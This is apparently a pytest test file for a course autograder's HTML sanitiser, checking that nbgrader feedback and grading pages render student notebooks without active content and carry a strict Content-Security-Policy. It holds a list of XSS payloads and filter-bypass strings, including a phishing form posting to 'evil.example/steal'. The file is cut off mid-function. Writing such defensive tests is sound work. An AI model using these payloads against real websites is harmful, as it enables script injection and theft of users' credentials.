"""Stored XSS through a submission (autograder/sanitize.py).

A notebook carrying the usual payloads (script, img onerror, javascript: links, iframe,
svg onload, meta refresh, base href, style url(), forms, svg attachments, HTML/JS/widget
outputs, poisoned output metadata and execution counts) is rendered the way nbgrader's
feedback converter and its formgrader render a submission. The pages are parsed with
html5lib, a parser that reads HTML the way browsers do, and compared with the page the
same template makes of an empty notebook: nothing active may be added. The same renders
also have to keep what honest students write (bold, tables, LaTeX, plots, tracebacks,
pandas tables). The feedback exporter is configured as the course configures it (its own
template: formulas as MathML, which the allow-list keeps inert; no MathJax). The feedback
page's Content-Security-Policy is checked in Chromium when one is installed.
"""
from __future__ import annotations

import base64
import collections
import copy
import hashlib
import re
import shutil
import struct
import zlib
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader import utils as nbg_utils
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from traitlets.config import Config

from autograder import sanitize
from autograder.sanitize import (
    CSP_MARKER, SanitizeNotebook, configure, configure_feedback, feedback_csp, harden_feedback_html,
    neutralise_markdown, render_markdown, sanitize_html,
)

try:
    import html5lib
except ImportError:  # bleach (a dependency of nbconvert) ships a copy
    from bleach._vendor import html5lib

# --------------------------------------------------------------------------------------
# notebooks
# --------------------------------------------------------------------------------------

XSS_MARKDOWN = ("My answer <script>alert('xss-md')</script> <img src=x onerror=\"alert('xss-onerror')\"> "
                "[link](javascript:alert('xss-link')) <iframe src=\"javascript:alert('xss-iframe')\"></iframe> "
                "**bold** and $\\sqrt{d_k}$")
MORE_MARKDOWN = (
    "\n\n<a href=\"javascript:alert('a-href')\">click</a> <svg onload=\"alert('svg-onload')\"><circle r=\"1\"/></svg>"
    " <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
    " <base href=\"https://evil.example/\">"
    " <style>body { background: url(https://evil.example/track.png) }</style>"
    " <form action=\"https://evil.example/steal\"><input name=\"password\"><button>Log in again</button></form>"
    " <object data=\"https://evil.example/x.swf\"></object> <embed src=\"https://evil.example/x.swf\">"
    " ![tracker](https://evil.example/pixel.png) <math><mi xlink:href=\"javascript:alert('mathml')\">x</mi></math>"
    "\n\n| head | $x_i$ |\n|---|---|\n| cell | 2 |\n"
)
GOOD_MARKDOWN = ("Good **bold** answer: the scores are divided by $\\sqrt{d_k}$, and\n\n"
                 "$$\\mathrm{softmax}(QK^T/\\sqrt{d_k})V$$\n\n"
                 "| model | BLEU |\n|:---|---:|\n| tiny | 12.5 |\n\n"
                 "- [x] tried a bigger model\n\n`code with <tags>` and a [link](https://pytorch.org).\n")
PANDAS_HTML = ('<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n'
               '    }\n</style>\n<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n'
               '      <th></th>\n      <th>loss</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th>0</th>\n'
               '      <td>0.4217</td>\n    </tr>\n  </tbody>\n</table>\n</div>')
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg\')"><script>alert("svg-script")</script></svg>'


def _png() -> str:
    """A 4x4 red PNG, base64."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(4))
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
    return base64.b64encode(png).decode()


PNG = _png()


def _display(data: dict, metadata: dict | None = None, kind: str = "display_data", **kw):
    out = new_output(kind, data=data, metadata=metadata or {}, **kw)
    return out


def _grade_meta(grade_id: str, *, solution: bool, grade: bool, points: float = 1.0, score: float = 1.0) -> dict:
    return {"nbgrader": {"grade_id": grade_id, "solution": solution, "grade": grade, "locked": False,
                         "points": points, "score": score, "schema_version": 3}}


def attack_notebook(poison_counts: bool = False, metadata_payloads: bool = True) -> nbformat.NotebookNode:
    """The payloads. ``poison_counts``: execution counts that are markup (a kernel can send
    them); nbconvert refuses to render such a notebook at all, SanitizeNotebook repairs it.
    ``metadata_payloads``: output metadata that nbconvert's template writes into the page
    itself (an unquoted ``width``, ``filenames`` as img src, ``isolated`` iframes); only the
    preprocessor can take those out, no render-time filter sees them."""
    nb = new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "evil": "</script><script>alert('widget-state')</script>"}}
    answer = new_markdown_cell(XSS_MARKDOWN + MORE_MARKDOWN, metadata=_grade_meta("answer", solution=True, grade=True))
    attached = new_markdown_cell("An svg ![evil](attachment:evil.svg) and a png ![ok](attachment:ok.png)")
    attached.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
                            "ok.png": {"image/png": PNG}}
    code = new_code_cell("display(HTML(...)); display(Javascript(...))", metadata=_grade_meta("code", solution=True,
                                                                                             grade=False))
    code.execution_count = "<img src=x onerror=alert('execution-count')>" if poison_counts else 2
    code.outputs = [
        _display({"text/html": "<img src=x onerror=alert('display-html')>", "text/plain": "<HTML object>"}),
        _display({"application/javascript": "alert('display-js')", "text/plain": "<Javascript object>"}),
        _display({"application/javascript": "alert('js-only')"}),
        _display({"text/html": "<script>alert('result-html')</script><b>ok</b>", "text/plain": "x"},
                 kind="execute_result", execution_count=3),
        _display({"image/png": PNG, "text/plain": "<Figure>"},
                 {"image/png": {"width": "1 onerror=alert('png-width')", "height": 4}} if metadata_payloads else {}),
        _display({"image/png": PNG, "text/plain": "<Figure>"},
                 {"filenames": {"image/png": "https://evil.example/f.png"}} if metadata_payloads else {}),
        _display({"image/png": '" onerror="alert(1)', "text/plain": "<bad png>"}),
        _display({"image/svg+xml": SVG, "text/plain": "<svg>"}),
        _display({"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2,
                                                                "version_minor": 0}, "text/plain": "IntSlider()"}),
        _display({"application/x-unknown": "<script>alert('unknown')</script>"}),
        _display({"text/markdown": "<script>alert('md-output')</script> **md**"}),
        _display({"text/html": "<b>iso</b><script>alert('isolated')</script>"},
                 {"text/html": {"isolated": True}} if metadata_payloads else {}),
        _display({"text/html": '<p id="q1" class="score tabbable" data-link="x">id clash</p>'}),
        new_output("stream", name="stdout", text="<script>alert('stdout')</script>\n"),
        new_output("error", ename="<img src=x onerror=alert('ename')>", evalue="<script>alert('evalue')</script>",
                   traceback=["\x1b[31m<script>alert('traceback')</script>\x1b[0m"]),
    ]
    exec_result = new_code_cell("1", execution_count=4)
    exec_result.outputs = [nbformat.NotebookNode(output_type="execute_result", data={"text/plain": "1"}, metadata={},
                                                 execution_count="<b onmouseover=x>" if poison_counts else 4)]
    raw = new_raw_cell("<script>alert('raw')</script><b>raw ok</b>")
    return _with_good(nb, [answer, attached, code, exec_result, raw])


def _with_good(nb, cells):
    good_md = new_markdown_cell(GOOD_MARKDOWN)
    plot = new_code_cell("plt.plot(...)", execution_count=5)
    plot.outputs = [_display({"image/png": PNG, "text/plain": "<Figure size 640x480>"}),
                    _display({"text/html": PANDAS_HTML, "text/plain": "   loss\n0  0.4217"},
                             kind="execute_result", execution_count=5)]
    failing = new_code_cell("assert add(1, 2) == 3", execution_count=6,
                            metadata=_grade_meta("test_add", solution=False, grade=True, score=0.0))
    failing.outputs = [new_output("error", ename="ZeroDivisionError", evalue="division by zero",
                                  traceback=["Traceback (most recent call last):",
                                             "\x1b[0;31mZeroDivisionError\x1b[0m: division by zero"])]
    nb.cells = cells + [good_md, plot, failing]
    return nb


def good_notebook() -> nbformat.NotebookNode:
    return _with_good(new_notebook(), [new_markdown_cell("Instructions with <br> a line break, <sub>sub</sub>, "
                                                         "<!-- a note --> and a ![pic](attachment:ok.png)",
                                                         attachments={"ok.png": {"image/png": PNG}})])


# --------------------------------------------------------------------------------------
# exporters, built the way nbgrader builds them
# --------------------------------------------------------------------------------------

def feedback_exporter(c: Config) -> HTMLExporter:
    """The exporter of nbgrader's GenerateFeedback converter (template ``feedback``), less
    GetGrades (which needs a gradebook: the resources below stand in for it)."""
    gf = GenerateFeedback(coursedir=CourseDirectory(config=c), config=c)
    exporter = gf.exporter_class(parent=gf, config=gf.config)
    exporter.register_preprocessor(CSSHTMLHeaderPreprocessor)
    return exporter


def formgrader_exporter(c: Config) -> HTMLExporter:
    """The exporter the formgrader builds in ``init_tornado_settings``."""
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    fg = FormgradeExtension(config=c)
    fg.update_config(fg.build_extra_config())
    return HTMLExporter(config=fg.config)


FEEDBACK_RESOURCES = {"nbgrader": {"notebook": "attention", "score": 1.0, "max_score": 3.0, "late_penalty": 0.0}}
FORMGRADE_RESOURCES = {"assignment_id": "a1", "notebook_id": "attention", "submission_id": "abc123", "index": 0,
                       "total": 1, "base_url": "/user/grader", "student": "s1", "last_name": "L", "first_name": "F",
                       "notebook_path": "autograded/s1/a1/attention.ipynb"}


def skeleton(nb) -> nbformat.NotebookNode:
    """The same cells with their nbgrader metadata but nothing a student wrote or ran: what
    the template puts in the page by itself (the formgrader adds score inputs per grade cell)."""
    out = new_notebook()
    for cell in nb.cells:
        blank = {"code": new_code_cell, "markdown": new_markdown_cell, "raw": new_raw_cell}[cell.cell_type]("")
        blank.metadata = copy.deepcopy({k: v for k, v in cell.metadata.items() if k == "nbgrader"})
        out.cells.append(blank)
    return out


def render(exporter: HTMLExporter, nb, resources: dict) -> str:
    html, _ = exporter.from_notebook_node(copy.deepcopy(nb), resources=copy.deepcopy(resources))
    return html


def stock() -> Config:
    return Config()


def hardened() -> Config:
    """The course's settings: :func:`configure` (every HTMLExporter) and
    :func:`configure_feedback` (GenerateFeedback's only)."""
    c = Config()
    configure(c)
    configure_feedback(c)
    return c


EXPORTERS = {
    "feedback": (feedback_exporter, FEEDBACK_RESOURCES),
    "formgrader": (formgrader_exporter, FORMGRADE_RESOURCES),
}

# --------------------------------------------------------------------------------------
# what counts as active, read the way a browser reads the page
# --------------------------------------------------------------------------------------

ACTIVE_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link", "meta",
                   "form", "input", "button", "textarea", "select", "style", "template", "noscript", "audio",
                   "video", "source", "portal", "svg", "math"}
MATHML = "{http://www.w3.org/1998/Math/MathML}"
#: Presentation MathML that cannot link, act or embed (an independent list, not the module's):
#: inert wherever it appears, with these attributes only.
INERT_MATHML = {"math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "msqrt", "mroot", "mfrac", "msub", "msup",
                "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd", "mstyle", "mpadded",
                "mphantom", "menclose"}
INERT_MATHML_ATTRS = {"display", "alttext", "mathvariant", "mathcolor", "mathbackground", "mathsize", "displaystyle",
                      "scriptlevel", "stretchy", "fence", "form", "separator", "lspace", "rspace", "minsize",
                      "maxsize", "movablelimits", "largeop", "accent", "accentunder", "symmetric", "linethickness",
                      "width", "height", "depth", "linebreak", "voffset", "columnspacing", "rowspacing", "rowlines",
                      "columnlines", "columnalign", "rowalign", "columnspan", "rowspan", "notation"}
URL_ATTRS = {"href", "src", "action", "formaction", "background", "poster", "data", "srcset", "xlink:href", "ping",
             "content"}
DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif)[;,]", re.I)  # an image from the page itself: inert


def _scheme(value: str) -> str:
    v = re.sub(r"[\x00-\x20\x7f-\xa0\s]+", "", value).lower()
    m = re.match(r"^([a-z][a-z0-9+.\-]*):", v)
    return m.group(1) if m else ""


def parse(page: str):
    return html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)


def active_parts(page: str) -> collections.Counter:
    """Everything in a page that can run code, load something or take input."""
    parts = []
    for el in parse(page).iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.rsplit("}", 1)[-1].lower()
        attrs = {k.rsplit("}", 1)[-1].lower(): v for k, v in el.attrib.items()}
        if el.tag.startswith(MATHML) and tag in INERT_MATHML:
            values = " ".join(v for k, v in el.attrib.items() if k != "alttext")  # alttext: the TeX, as text
            if set(el.attrib) - INERT_MATHML_ATTRS or re.search(r"[:(\"']", values):
                parts.append(("mathml-attribute", tag, repr(sorted(el.attrib.items()))))
            continue
        if el.tag.startswith(MATHML):
            parts.append(("mathml-element", tag, repr(sorted(attrs.items()))))
            continue
        if tag in ACTIVE_ELEMENTS and not (tag == "input" and attrs.get("type") == "checkbox"):
            parts.append(("element", tag, repr(sorted(attrs.items())), (el.text or "")[:300]))
        if tag == "meta" and "refresh" in attrs.get("http-equiv", "").lower():
            parts.append(("refresh", tag, attrs.get("content", "")))
        for name, value in attrs.items():
            if name.startswith("on"):
                parts.append(("handler", tag, name, value))
            elif name == "style" and re.search(r"url\s*\(|expression|@import", value, re.I):
                parts.append(("css-url", tag, value[:80]))
            elif name in URL_ATTRS:
                if tag == "img" and name == "src":
                    if not DATA_IMAGE.match(value):
                        parts.append(("image", tag, value[:80]))
                elif _scheme(value) in ("javascript", "vbscript", "data", "livescript"):
                    parts.append(("url", tag, name, value[:80]))
                elif name in ("src", "srcset", "data", "background", "poster", "xlink:href"):
                    parts.append(("fetch", tag, name, value[:80]))
    return collections.Counter(parts)


def added_active(page: str, baseline: str) -> collections.Counter:
    return active_parts(page) - active_parts(baseline)


def visible_text(page: str) -> str:
    return " ".join(" ".join(t for t in el.itertext()) for el in parse(page).iter("body"))


def assert_good_content(page: str, mathml: bool = False) -> None:
    """What an honest notebook shows survives; formulas as TeX (the formgrader, for its
    MathJax) or, with ``mathml`` (the feedback page), as MathML."""
    doc = parse(page)
    strongs = ["".join(s.itertext()) for s in doc.iter("strong")]
    assert "bold" in strongs, "markdown bold lost"
    cells = ["".join(td.itertext()).strip() for td in doc.iter("td")]
    assert "12.5" in cells and "0.4217" in cells, "markdown table or pandas table lost"
    assert any("dataframe" in (t.get("class") or "") for t in doc.iter("table")), "pandas table class lost"
    text = visible_text(page)
    if mathml:
        maths = list(doc.iter(MATHML + "math"))
        assert any(m.get("display") == "inline" and list(m.iter(MATHML + "msqrt")) for m in maths), "inline maths lost"
        assert any(m.get("display") == "block" and list(m.iter(MATHML + "msqrt")) and "softmax" in
                   "".join(m.itertext()).replace("\n", "") for m in maths), "display maths lost"
        assert "\\sqrt" not in text, "a formula left as TeX"
    else:
        assert "$\\sqrt{d_k}$" in text, "inline LaTeX lost"
        assert "$$\\mathrm{softmax}(QK^T/\\sqrt{d_k})V$$" in text, "display LaTeX lost"
    code_text = " ".join("".join(c.itertext()) for c in doc.iter("code"))
    assert "code with <tags>" in code_text, "inline code lost"
    pngs = [i for i in doc.iter("img") if (i.get("src") or "").startswith("data:image/png;base64," + PNG[:20])]
    assert pngs, "PNG plot lost"
    pres = " ".join("".join(p.itertext()) for p in doc.iter("pre"))
    assert "ZeroDivisionError: division by zero" in pres, "plain-text traceback lost"
    assert any((a.get("href") or "") == "https://pytorch.org" for a in doc.iter("a")), "https link lost"


# --------------------------------------------------------------------------------------
# the renders
# --------------------------------------------------------------------------------------

@pytest.mark.parametrize("where", sorted(EXPORTERS))
def test_stock_render_is_live_and_configured_render_is_inert(where):
    """nbgrader as shipped renders the payloads live (proves the check can see them);
    with :func:`configure` (preprocessor + render-time cleaning) nothing active is added
    to what the template has on its own, and honest content survives."""
    make, resources = EXPORTERS[where]
    nb = attack_notebook()
    live = added_active(render(make(stock()), nb, resources), render(make(stock()), skeleton(nb), resources))
    assert any(k[0] == "handler" for k in live) and any(k[1] == "script" for k in live), live

    exporter = make(hardened())
    page = render(exporter, nb, resources)
    assert not added_active(page, render(exporter, skeleton(nb), resources))
    assert_good_content(page, mathml=where == "feedback")
    # stream text and tracebacks are shown as text, markup and all, never parsed
    text = visible_text(page)
    assert "<script>alert('stdout')</script>" in text and "<script>alert('traceback')</script>" in text


@pytest.mark.parametrize("where", sorted(EXPORTERS))
def test_preprocessor_alone_makes_notebook_safe_to_render(where):
    """Layer 1: the notebook SanitizeNotebook writes is inert even through nbgrader's
    stock exporter (sanitize_html off), as the autograded notebook on disk will be."""
    make, resources = EXPORTERS[where]
    nb, res = SanitizeNotebook().preprocess(attack_notebook(poison_counts=True), {})
    exporter = make(stock())
    page = render(exporter, nb, resources)
    assert not added_active(page, render(exporter, skeleton(nb), resources))
    assert_good_content(page)


@pytest.mark.parametrize("where", sorted(EXPORTERS))
def test_render_time_filters_alone_clean_content(where):
    """The render-time filters of :func:`configure` without its preprocessor still render
    every payload carried in content (markdown, HTML, JS, SVG, widgets) inertly. (Payloads
    in output metadata need the preprocessor, which :func:`configure` installs too.)"""
    make, resources = EXPORTERS[where]
    c = hardened()
    c.HTMLExporter.preprocessors = []
    exporter = make(c)
    assert not any(isinstance(p, SanitizeNotebook) for p in exporter._preprocessors)
    nb = attack_notebook(metadata_payloads=False)
    page = render(exporter, nb, resources)
    assert not added_active(page, render(exporter, skeleton(nb), resources))
    assert_good_content(page, mathml=where == "feedback")


def test_configure_reaches_both_exporters():
    for make in (feedback_exporter, formgrader_exporter):
        exporter = make(hardened())
        assert exporter.sanitize_html is True
        assert any(isinstance(p, SanitizeNotebook) for p in exporter._preprocessors)
        assert exporter.environment.filters["clean_html"] is sanitize.clean_html_filter
        assert isinstance(exporter.environment.filters["markdown2html"], sanitize.SafeMarkdown2HTML)
    assert feedback_exporter(hardened()).template_name == "feedback"
    assert formgrader_exporter(hardened()).template_name == "formgrade"
    # the course's feedback template and MathML for GenerateFeedback only; the formgrader's stay nbgrader's
    assert feedback_exporter(hardened()).template_paths[0] == str(sanitize.FEEDBACK_TEMPLATES / "feedback")
    filters = feedback_exporter(hardened()).environment.filters
    assert isinstance(filters["markdown2html"], sanitize.FeedbackMarkdown2HTML)
    assert not any(str(sanitize.FEEDBACK_TEMPLATES) in p for p in formgrader_exporter(hardened()).template_paths)
    assert not isinstance(formgrader_exporter(hardened()).environment.filters["markdown2html"],
                          sanitize.FeedbackMarkdown2HTML)
    # with or without the preprocessor, an output is shown by its inert MIME type
    nb = new_notebook()
    cell = new_code_cell("display(Javascript(...))", execution_count=1)
    cell.outputs = [_display({"application/javascript": "alert(1)", "text/plain": "PLAIN-FALLBACK"}),
                    _display({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": "W-FALLBACK"})]
    nb.cells = [cell]
    for make, resources in EXPORTERS.values():
        c = hardened()
        c.HTMLExporter.preprocessors = []
        page = render(make(c), nb, resources)
        assert "PLAIN-FALLBACK" in visible_text(page) and "W-FALLBACK" in visible_text(page)
    # configure() keeps preprocessors someone configured before it, and is idempotent
    c = Config()
    c.HTMLExporter.preprocessors = ["nbconvert.preprocessors.ClearMetadataPreprocessor"]
    configure(c)
    configure(c)
    assert c.HTMLExporter.preprocessors == ["nbconvert.preprocessors.ClearMetadataPreprocessor", SanitizeNotebook]


# --------------------------------------------------------------------------------------
# the preprocessor
# --------------------------------------------------------------------------------------

def test_sanitize_notebook_keeps_only_inert_content():
    nb, res = SanitizeNotebook().preprocess(attack_notebook(poison_counts=True), {})
    nbformat.validate(nb)  # nbconvert refuses to render an invalid notebook
    assert "widgets" not in nb.metadata
    allowed = {"text/plain", "image/png", "image/jpeg", "image/gif", "text/html", "text/markdown", "text/latex"}
    for cell in nb.cells:
        if cell.cell_type == "code":
            assert cell.execution_count is None or isinstance(cell.execution_count, int)
            for out in cell.outputs:
                assert set(out.get("data", {})) <= allowed
                for mime, meta in out.get("metadata", {}).items():
                    assert mime in ("image/png", "image/jpeg", "image/gif"), mime
                    assert set(meta) <= {"width", "height", "unconfined", "alt"}
                    assert all(isinstance(meta[k], int) for k in ("width", "height") if k in meta)
                if "execution_count" in out:
                    assert out.execution_count is None or isinstance(out.execution_count, int)
                html = out.get("data", {}).get("text/html")
                if html:
                    assert not active_parts(f"<body>{html}</body>")
                    assert 'id="q1"' not in html and "tabbable" not in html and "data-link" not in html
        if cell.cell_type == "markdown":
            for bundle in (cell.get("attachments") or {}).values():
                assert set(bundle) <= {"image/png", "image/jpeg", "image/gif"}
            assert not active_parts(f"<body>{render_markdown(cell.source, cell.get('attachments'))}</body>")
    notes = res["sanitized"]
    text = "\n".join(notes)
    for needle in ("<script>", "onerror attribute", "javascript: URL", "<iframe>", "<svg>", "<meta>", "<base>",
                   "<style>", "<form>", "application/javascript", "image/svg+xml",
                   "application/vnd.jupyter.widget-view+json", "widget state", "execution count",
                   "image/svg+xml attachment", "remote image", "filenames"):
        assert needle in text, (needle, notes)
    assert any(n.startswith("cell 1 [answer]: removed") for n in notes), notes
    assert nb.metadata["autograder_sanitized"] == notes
    # the autograder's verdicts do not change: stream names and error outputs stay
    kinds = [(o.output_type, o.get("name")) for o in nb.cells[2].outputs if o.output_type in ("stream", "error")]
    assert kinds == [("stream", "stdout"), ("error", None)]


def test_sanitize_notebook_is_idempotent_and_leaves_honest_notebooks_alone():
    clean = good_notebook()
    nb, res = SanitizeNotebook().preprocess(copy.deepcopy(clean), {})
    assert res["sanitized"] == [] and "autograder_sanitized" not in nb.metadata
    for before, after in zip(clean.cells, nb.cells):
        if before.cell_type == "markdown":
            assert after.source == before.source  # byte for byte: nbgrader checksums stay valid
    once, _ = SanitizeNotebook().preprocess(attack_notebook(poison_counts=True), {})
    twice, res = SanitizeNotebook().preprocess(copy.deepcopy(once), {})
    assert twice == once
    assert res["sanitized"] == []


def test_grades_do_not_change():
    nb = attack_notebook()
    before = [nbg_utils.determine_grade(c) for c in nb.cells if nbg_utils.is_grade(c)]
    after_nb, res = SanitizeNotebook().preprocess(copy.deepcopy(nb), {})
    assert res["sanitized"] and after_nb != nb
    after = [nbg_utils.determine_grade(c) for c in after_nb.cells if nbg_utils.is_grade(c)]
    assert before == after == [(None, 1.0), (0, 1.0)]


def test_written_answer_keeps_markdown_and_math():
    new, found = neutralise_markdown(XSS_MARKDOWN)
    assert {"<script>", "onerror attribute", "javascript: URL", "<iframe>"} <= set(found)
    html = render_markdown(new)
    assert not active_parts(f"<body>{html}</body>")
    assert "<strong>bold</strong>" in html and "$\\sqrt{d_k}$" in html and "My answer" in html
    assert "alert(" not in html  # removed, not shown as text


PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<a href=" java\tscript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>', "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
    "<style>@import url(https://evil.example/x.css)</style>", '<form action="https://evil.example"><input></form>',
    '<object data="https://evil.example/x"></object>', '<embed src="https://evil.example/x">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<img src="https://evil.example/p.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<div style="background:url(https://evil.example/p.png)">x</div>', '<p onclick="alert(1)">x</p>',
    '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>', '<x-el onmouseover=alert(1)>x</x-el>',
    '<img srcset="https://evil.example/p.png 1x">', '<template><script>alert(1)</script></template>',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>', '<a href="files/javascript:alert(1)">f</a>',
    '<!--><img src=x onerror=alert(1)>-->', '<textarea><img src=x onerror=alert(1)></textarea>',
    '<![CDATA[<script>alert(1)</script>]]><img src=x onerror=alert(1)>', '<a href="vbscript:msgbox(1)">v</a>',
    '<table><tr><td><form action="https://evil.example"><input type="password"></form></td></tr></table>',
    '<img src=x onerror=alert(1)//', '<IMG SRC=JaVaScRiPt:alert(1)>', '<a href=javascript&colon;alert(1)>c</a>',
]


# inert as a fragment of their own (an attribute value, a relative link), active once a
# template has put them in a page (strip_files_prefix, the markup that follows): e2e only
IN_PAGE_ONLY = ('<p title="', '<a href="files/', "<img src=x onerror=alert(1)//")


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not p.startswith(IN_PAGE_ONLY)])
def test_sanitize_html_payloads(payload):
    assert active_parts(f"<body>{payload}</body>"), payload
    clean, found = sanitize_html(payload)
    assert found, payload
    assert not active_parts(f"<body>{clean}</body>"), clean
    again, found_again = sanitize_html(clean)
    assert not found_again and not active_parts(f"<body>{again}</body>")


@pytest.mark.parametrize("where", sorted(EXPORTERS))
def test_every_payload_end_to_end(where):
    """Each payload as a student's written answer and as an HTML and a markdown output,
    through the whole configured exporter: nothing active in the page."""
    make, resources = EXPORTERS[where]
    nb = new_notebook()
    for i, payload in enumerate(PAYLOADS):
        code = new_code_cell("x", execution_count=i + 1)
        code.outputs = [_display({"text/html": payload, "text/plain": "x"}), _display({"text/markdown": payload})]
        nb.cells += [new_markdown_cell(f"answer {i}: " + payload), new_markdown_cell(payload), code]
    exporter = make(hardened())
    page = render(exporter, nb, resources)
    assert not added_active(page, render(exporter, skeleton(nb), resources))


def test_sanitize_html_keeps_inert_markup():
    html = ('<h2 id="results">Results<a class="anchor-link" href="#results">¶</a></h2><p><b>b</b> <i>i</i> '
            '<code>c</code> <a href="https://pytorch.org">docs</a></p>' + PANDAS_HTML
            + f'<img src="data:image/png;base64,{PNG}" width="40" alt="plot">')
    clean, found = sanitize_html(html)
    assert found == []
    doc = parse(clean)
    assert [h.get("id") for h in doc.iter("h2")] == ["user-content-results"]
    assert [a.get("href") for a in doc.iter("a")] == ["#user-content-results", "https://pytorch.org"]
    assert [t.get("class") for t in doc.iter("table")] == ["dataframe"]
    assert [i.get("width") for i in doc.iter("img")] == ["40"]
    assert "0.4217" in clean and "<style" not in clean


# --------------------------------------------------------------------------------------
# Content-Security-Policy of the feedback page
# --------------------------------------------------------------------------------------

def _policy(page: str) -> dict[str, list[str]]:
    head = next(parse(page).iter("head"))
    first = [el for el in head if isinstance(el.tag, str)][0]
    assert first.tag == "meta" and first.get("http-equiv") == "Content-Security-Policy", first.tag
    return {d.split()[0]: d.split()[1:] for d in first.get("content").split(";") if d.strip()}


def _inline_script_hashes(page: str) -> list[str]:
    return [base64.b64encode(hashlib.sha256((s.text or "").encode()).digest()).decode()
            for s in parse(page).iter("script") if not s.get("src") and (s.get("type") or "") in ("", "text/javascript")]


INJECTED = ("<script>window.__pwned = 1</script><img src=x onerror=\"window.__pwned2 = 1\">"
            "<script type=\"text/x-mathjax-config\">window.__pwned3 = 1</script>")


@pytest.fixture(scope="module")
def feedback_pages(tmp_path_factory) -> dict[str, Path]:
    """Hardened feedback pages of the attack notebook: as written (``clean``), and with a
    <script>, a handler and a MathJax config block slipped in before hardening
    (``injected``): what a sanitising miss would look like."""
    folder = tmp_path_factory.mktemp("feedback")
    page = render(feedback_exporter(hardened()), attack_notebook(), FEEDBACK_RESOURCES)
    paths = {}
    for name, text in (("clean", page), ("injected", page.replace("<body>", "<body>" + INJECTED, 1))):
        paths[name] = folder / f"{name}.html"
        paths[name].write_text(text, encoding="utf-8")
        harden_feedback_html(paths[name])
    return paths


@pytest.fixture(scope="module")
def feedback_page(feedback_pages) -> Path:
    return feedback_pages["injected"]


def test_feedback_page_gets_a_strict_policy(feedback_page):
    page = feedback_page.read_text(encoding="utf-8")
    policy = _policy(page)
    assert policy["default-src"] == ["'none'"]
    assert policy["img-src"] == ["data:"]
    assert policy["style-src"] == ["'unsafe-inline'"]
    assert policy["base-uri"] == ["'none'"] and policy["form-action"] == ["'none'"]
    assert policy["font-src"] == ["data:"] and policy["connect-src"] == ["'none'"]
    # the course's template has no script of its own (maths is MathML): none may run, none loads
    assert policy["script-src"] == ["'none'"]
    hashes = _inline_script_hashes(page)
    injected = base64.b64encode(hashlib.sha256(b"window.__pwned = 1").digest()).decode()
    assert set(hashes) == {injected}
    assert not re.search(r"<script\b[^>]*\bsrc=", page, re.I)
    assert not re.search(r"mathjax|cdnjs", page.replace(INJECTED, ""), re.I)
    assert page.encode()[:1024].decode(errors="ignore").count('<meta charset="utf-8"') == 1
    assert '<meta name="referrer" content="no-referrer">' in page


def test_hardening_is_idempotent(feedback_page, tmp_path):
    copy_ = tmp_path / "again.html"
    shutil.copy(feedback_page, copy_)
    harden_feedback_html(copy_)
    assert copy_.read_text(encoding="utf-8") == feedback_page.read_text(encoding="utf-8")
    assert feedback_page.read_text(encoding="utf-8").count(CSP_MARKER) == 1
    assert feedback_csp() in feedback_page.read_text(encoding="utf-8").replace("&#x27;", "'")


def _chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    return None


def _open_in_chromium(path: Path) -> dict:
    """Load ``path`` in headless Chromium with every request but the page itself refused
    (no network: the page needs none); return what the page did."""
    chromium = _chromium()
    if chromium is None:
        pytest.skip("no chromium installed (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright not installed in this environment")
    fetched, refused = [], []

    def serve(route):
        url = route.request.url
        if url.startswith(("file:", "data:")):
            fetched.append(url[:40])
            return route.continue_()
        refused.append(url)
        return route.abort()

    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
